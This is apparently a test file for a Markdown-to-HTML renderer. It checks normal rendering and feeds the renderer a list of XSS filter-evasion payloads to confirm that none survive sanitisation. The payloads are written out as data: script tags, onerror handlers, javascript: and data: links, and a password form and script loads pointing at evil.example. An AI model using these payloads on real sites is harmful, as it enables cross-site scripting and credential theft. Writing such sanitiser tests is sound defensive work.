import t from 'tap'
import { htmlOf } from '../../src/lib/markdown.ts'

t.test('Markdown becomes HTML', async t => {
  t.equal(htmlOf('# Title\n\nSome **bold** text'), '<h1>Title</h1>\n<p>Some <strong>bold</strong> text</p>\n')
  t.equal(htmlOf('| a |\n|---|\n| 1 |').match(/<t[dh]>/g)?.length, 2)
  t.match(
    htmlOf('[here](https://example.com)'),
    /<a href="https:\/\/example\.com" rel="noopener nofollow ugc">here<\/a>/,
  )
  t.match(htmlOf('![logo](https://example.com/a.png)'), /<img src="https:\/\/example\.com\/a\.png" alt="logo" \/>/)
})

/** From the OWASP cheat sheet on filter evasion, and what Markdown adds to it. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://example.com/a.png" onload="alert(1)">',
  '<svg/onload=alert(1)>',
  '<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<div style="position:fixed;inset:0">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](http://evil.example/a.png)',
  '![x](//evil.example/a.png)',
  '![x" onerror="alert(1)](https://example.com/a.png)',
  '![x](https://example.com/a.png" onerror="alert(1))',
  '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '```"onmouseover=alert(1) x\ncode\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
]

/** What the output may consist of: these tags with these attributes, and text without `<`. */
const TAG =
  /<(?:\/?(?:h[1-6]|p|blockquote|ul|ol|li|pre|code|em|strong|s|table|thead|tbody|tr|th|td)|(?:hr|br) \/|ol start="\d+"|\/a|a href="(?:https?:|mailto:)?[^":]*(?:[^"]*)"(?: title="[^"]*")? rel="noopener nofollow ugc"|a rel="noopener nofollow ugc"|img(?: src="https:[^"]*")?(?: alt="[^"]*")?(?: title="[^"]*")? \/)>/g

t.test('nothing that runs, and nothing that is not written by the renderer, comes out', async t => {
  for (const attack of ATTACKS) {
    const html = htmlOf(attack)
    t.notMatch(html.replace(TAG, ''), /</, attack)
    for (const [tag] of html.matchAll(TAG))
      for (const [, address = ''] of tag.matchAll(/(?:href|src)="([^"]*)"/g))
        t.match(new URL(address, 'https://base.example').protocol, /^(https?|mailto):$/, `${attack}: ${address}`)
  }
})

t.test('what is nested without end, or begins much and ends nothing, is rendered like other text', async t => {
  const long = 50_000
  for (const part of ['>', '[', '![', '*a_', '`', '- ', '<', '&', '[a](', '|', '\\', '~~', '](', '# ', '1. ', '"'])
    t.type(htmlOf(part.repeat(long / part.length)), 'string', part)
})
